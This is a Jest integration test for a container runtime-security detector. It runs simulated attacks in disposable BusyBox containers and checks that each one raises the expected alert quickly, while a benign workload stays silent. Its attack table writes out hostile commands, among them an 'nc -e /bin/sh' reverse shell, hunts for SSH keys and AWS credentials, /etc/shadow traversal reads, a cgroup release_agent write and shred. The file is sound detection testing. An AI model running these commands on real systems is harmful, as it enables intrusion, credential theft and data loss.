import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { execFile } from 'node:child_process';
import fs from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import type { AlertJSON } from '../proto/src/index.js';
import { BUSYBOX_IMAGE, buildStaticProgram, createContainer, docker, dockerExec, removeContainersByPrefix, startNats, vigilCacheDir, type ContainerNats, type TestContainer } from './harness/index.js';
import { spawnVigilUp, untilRuntimeCollector, type VigilUp } from './support/vigil-process.js';

/**
 * Standard in-container attack behaviours, each a real program in its own fresh
 * container, judged by `vigil up` (eBPF collector, embedded engine, default bundle);
 * and a benign application that must stay silent. What runs is what an attacker's
 * one-shot commands do: short-lived processes started through `docker exec`.
 */

const run = promisify(execFile);
const PREFIX = `vigil-attack-${process.pid}-`;
const RUNTIME_KINDS = new Set(['process_exec', 'file_access', 'network_connection', 'privilege_change']);
const LATENCY_BUDGET_MS = 2_000;
const BENIGN_MS = 120_000;


interface Attack {
  behaviour: string;
  /** Rules any one of which reports it. */
  rules: string[];
  /** Text the alert's message must contain. */
  marker: string;
  /** In the fresh container before watching starts for it. */
  setup?: string;
  /** docker exec arguments after the container name, or before it (e.g. -u, -t) with `execFlags`. */
  command: string[];
  execFlags?: string[];
  containerFlags?: string[];
}

const ATTACKS: Attack[] = [
  { behaviour: 'clearing a log under /var/log', rules: ['VGL-RUN-020'], marker: '/var/log/app.log', setup: 'mkdir -p /var/log && echo started >> /var/log/app.log', command: ['sh', '-c', ': > /var/log/app.log'] },
  { behaviour: 'symlink over /etc/shadow', rules: ['VGL-RUN-036'], marker: '/etc/shadow', command: ['ln', '-s', '/etc/shadow', '/tmp/shadow-link'] },
  { behaviour: 'hardlink over /etc/shadow', rules: ['VGL-RUN-036'], marker: 'hard link', setup: 'echo "root:*:19000:0:99999:7:::" > /etc/shadow', command: ['ln', '/etc/shadow', '/tmp/shadow-hard'] },
  { behaviour: 'mount in a container with CAP_SYS_ADMIN', rules: ['VGL-RUN-031'], marker: 'mounted', containerFlags: ['--cap-add', 'SYS_ADMIN'], command: ['mount', '-t', 'tmpfs', 'none', '/mnt'] },
  { behaviour: 'debugfs run in a container', rules: ['VGL-RUN-041'], marker: 'debugfs', setup: 'cp /bin/busybox /root/debugfs', command: ['/root/debugfs', '-w', '/dev/sda1'] },
  { behaviour: 'write to a cgroup release_agent', rules: ['VGL-RUN-022'], marker: 'release_agent', command: ['sh', '-c', 'echo /tmp/x > /sys/fs/cgroup/memory/release_agent'] },
  { behaviour: 'read of /etc/shadow through ../', rules: ['VGL-RUN-014'], marker: '/etc/shadow', setup: 'echo "root:*:19000:0:99999:7:::" > /etc/shadow', command: ['cat', '/tmp/../etc/shadow'] },
  { behaviour: 'SSH to a non-standard port', rules: ['VGL-RUN-040'], marker: 'port 2222', command: ['/vigil/ssh', '-p', '2222', '127.0.0.1'] },
  { behaviour: 'a new binary dropped and run', rules: ['VGL-RUN-003'], marker: '/root/dropper', command: ['sh', '-c', 'cp /bin/busybox /root/dropper && /root/dropper true'] },
  // Docker mounts /dev/shm noexec: a dropper there is run as a script.
  { behaviour: 'a script run from /dev/shm', rules: ['VGL-RUN-010'], marker: '/dev/shm/run.sh', setup: 'printf "id\\n" > /dev/shm/run.sh', command: ['sh', '/dev/shm/run.sh'] },
  { behaviour: 'a binary run from an exec-mounted /dev/shm', rules: ['VGL-RUN-010'], marker: '/dev/shm/runner', containerFlags: ['--tmpfs', '/dev/shm:exec'], command: ['sh', '-c', 'cp /bin/busybox /dev/shm/runner && /dev/shm/runner true'] },
  { behaviour: 'fileless exec through memfd_create', rules: ['VGL-RUN-013'], marker: 'memfd:payload', command: ['/vigil/vigil-attack', 'memfd-exec'] },
  { behaviour: 'find hunting for private keys', rules: ['VGL-RUN-038'], marker: 'id_rsa', command: ['find', '/etc', '/root', '-name', 'id_rsa'] },
  { behaviour: 'grep hunting for AWS credentials', rules: ['VGL-RUN-038'], marker: 'aws_access_key_id', command: ['grep', '-r', 'aws_access_key_id', '/etc'] },
  { behaviour: 'AF_PACKET socket', rules: ['VGL-RUN-037'], marker: 'packet socket', command: ['/vigil/vigil-attack', 'packet-socket'] },
  { behaviour: 'PTRACE_TRACEME anti-debugging', rules: ['VGL-RUN-035'], marker: 'PTRACE_TRACEME', command: ['/vigil/vigil-attack', 'traceme'] },
  { behaviour: 'bulk data removal with shred', rules: ['VGL-RUN-039'], marker: 'shred', setup: 'echo data > /root/ledger', command: ['shred', '-u', '/root/ledger'] },
  { behaviour: 'a system account running an interactive shell', rules: ['VGL-RUN-042'], marker: 'system account uid 1', execFlags: ['-t', '-u', '1'], command: ['sh', '-c', 'id'] },
  { behaviour: 'nc -e remote code execution, short-lived, under sh -c', rules: ['VGL-RUN-007'], marker: 'nc -e /bin/sh', command: ['sh', '-c', 'nc -e /bin/sh 127.0.0.1 9'] },
  { behaviour: 'nc -e remote code execution, short-lived, directly', rules: ['VGL-RUN-007'], marker: 'nc -e /bin/sh', command: ['nc', '-e', '/bin/sh', '127.0.0.1', '9'] },
  // Falco stable rules the simulator does not exercise, and the behaviours it caught before.
  { behaviour: 'ptrace attach to another process', rules: ['VGL-RUN-030'], marker: 'with ptrace', command: ['/vigil/vigil-attack', 'ptrace-attach'] },
  { behaviour: 'a shell spawned by a server process', rules: ['VGL-RUN-002'], marker: 'spawned shell', command: ['/vigil/nginx'] },
  { behaviour: 'a shell with stdin and stdout on a TCP connection', rules: ['VGL-RUN-008'], marker: 'connected to a socket', command: ['/vigil/vigil-attack', 'reverse-shell'] },
  { behaviour: 'contacting the Kubernetes API server', rules: ['VGL-RUN-045'], marker: ':6443', command: ['nc', '-w', '1', '127.0.0.1', '6443'] },
];

describe('runtime attacks - standard in-container behaviours through vigil up', () => {
  let nats: ContainerNats;
  let up: VigilUp;
  let tools: string;
  const latencies: Record<string, number> = {};

  beforeAll(async () => {
    await removeContainersByPrefix(PREFIX);
    tools = path.join(vigilCacheDir(), 'test', 'attacks');
    await fs.mkdir(tools, { recursive: true });
    await buildStaticProgram(path.resolve('test', 'attacks', 'vigil-attack.c'), path.join(tools, 'vigil-attack'));
    nats = await startNats();
    up = spawnVigilUp(['--nats', nats.url, '--collectors', 'runtime,container']);
    await untilRuntimeCollector(up);
  }, 120_000);

  afterAll(async () => {
    const code = await up?.stop();
    await removeContainersByPrefix(PREFIX);
    await nats?.stop();
    process.stdout.write(`runtime attack latencies (ms): ${JSON.stringify(latencies)}\n`);
    expect(code).toBe(0);
  }, 60_000);

  /** The helper program, under its four names, read-only at /vigil. */
  const toolMounts = (): string[] =>
    ['vigil-attack', 'ssh', 'logrotate', 'nginx'].flatMap((name) => ['-v', `${path.join(tools, 'vigil-attack')}:/vigil/${name}:ro`]);

  let index = 0;
  for (const attack of ATTACKS) {
    it(`runtime attacks - ${attack.behaviour}: ${attack.rules.join(' or ')}, attributed to its container and image within 2 s`, async () => {
      const container = await createContainer({ name: `${PREFIX}${index++}`, flags: [...toolMounts(), ...(attack.containerFlags ?? [])], cmd: ['sleep', '300'] });
      try {
        if (attack.setup) await dockerExec(container.name, 'sh', '-c', attack.setup);
        const before = up.alerts.length;
        const started = Date.now();
        await dockerExec(...(attack.execFlags ?? []), container.name, ...attack.command);
        const ours = (): AlertJSON[] =>
          up.alerts.slice(before).filter((a) => a.subject.name === container.name && RUNTIME_KINDS.has(a.subject.kind));
        const hit = (): AlertJSON | undefined => ours().find((a) => attack.rules.includes(a.rule_id) && a.message.includes(attack.marker));
        while (hit() === undefined && Date.now() - started < LATENCY_BUDGET_MS + 3_000) await new Promise((resolve) => setTimeout(resolve, 10));
        latencies[attack.behaviour] = Date.now() - started;
        const alert = hit();
        expect({ behaviour: attack.behaviour, alerted: alert?.rule_id, seen: ours().map((a) => `${a.rule_id} ${a.message}`) }).toEqual({
          behaviour: attack.behaviour,
          alerted: expect.stringMatching(new RegExp(attack.rules.join('|'))),
          seen: expect.anything(),
        });
        expect(alert!.subject).toMatchObject({ name: container.name, id: container.id, image: BUSYBOX_IMAGE });
        expect(latencies[attack.behaviour]).toBeLessThan(LATENCY_BUDGET_MS);
      } finally {
        await container.remove();
      }
    }, 60_000);
  }

  it('runtime attacks - a network tool run on the host: VGL-RUN-043, attributed to the host', async () => {
    const link = path.join(tools, 'nc');
    await fs.rm(link, { force: true });
    await fs.symlink('/usr/bin/busybox', link);
    const before = up.alerts.length;
    const started = Date.now();
    await run(link, ['-z', '127.0.0.1', '9']).catch(() => undefined);
    const hit = (): AlertJSON | undefined => up.alerts.slice(before).find((a) => a.rule_id === 'VGL-RUN-043' && a.message.includes(`${link} -z 127.0.0.1 9`));
    while (hit() === undefined && Date.now() - started < LATENCY_BUDGET_MS + 3_000) await new Promise((resolve) => setTimeout(resolve, 10));
    latencies['host network tool'] = Date.now() - started;
    expect(hit()?.subject).toMatchObject({ kind: 'process_exec', id: '' });
    expect(latencies['host network tool']).toBeLessThan(LATENCY_BUDGET_MS);
  });

  it('runtime attacks - a benign web server, its client, a cron-like job and log rotation raise no runtime alert over 2 minutes', async () => {
    const network = `${PREFIX}net`;
    await docker(['network', 'create', network]);
    const containers: TestContainer[] = [];
    try {
      const before = up.alerts.length;
      const web = await createContainer({
        name: `${PREFIX}web`,
        flags: ['--network', network],
        cmd: ['sh', '-c', 'mkdir -p /www && echo ok > /www/index.html && exec httpd -f -p 8080 -h /www'],
      });
      containers.push(web);
      containers.push(
        await createContainer({
          name: `${PREFIX}client`,
          flags: ['--network', network],
          cmd: ['sh', '-c', `while true; do wget -q -O /dev/null http://${web.name}:8080/ || true; sleep 0.5; done`],
        }),
      );
      containers.push(
        await createContainer({
          name: `${PREFIX}cron`,
          flags: toolMounts(),
          // A job every 2 s appending to its log; every 10 s the log is rotated (rename, then recreated empty).
          cmd: ['sh', '-c', 'mkdir -p /var/log/job; i=0; while true; do date >> /var/log/job/job.log; i=$((i+1)); if [ $((i % 5)) -eq 0 ]; then /vigil/logrotate /var/log/job/job.log; fi; sleep 2; done'],
        }),
      );
      await new Promise((resolve) => setTimeout(resolve, BENIGN_MS));
      const names = new Set(containers.map((c) => c.name));
      const noisy = up.alerts.slice(before).filter((a) => RUNTIME_KINDS.has(a.subject.kind) && names.has(a.subject.name));
      expect(noisy.map((a) => `${a.rule_id} ${a.subject.name}: ${a.message}`)).toEqual([]);
      // The workload did run: the server answers, the job's log was rotated, and the container collector saw all three.
      const { stdout: page } = await run('docker', ['exec', containers[1]!.name, 'wget', '-q', '-O', '-', `http://${web.name}:8080/`]);
      expect(page.trim()).toBe('ok');
      const { stdout: logs } = await run('docker', ['exec', containers[2]!.name, 'ls', '/var/log/job']);
      expect(logs.split('\n')).toEqual(expect.arrayContaining(['job.log', 'job.log.1']));
      const seen = new Set(up.alerts.slice(before).filter((a) => a.subject.kind === 'container').map((a) => a.subject.name));
      expect([...names].filter((n) => !seen.has(n))).toEqual([]);
    } finally {
      await Promise.all(containers.map((c) => c.remove()));
      await docker(['network', 'rm', network]).catch(() => undefined);
    }
  }, BENIGN_MS + 60_000);
});
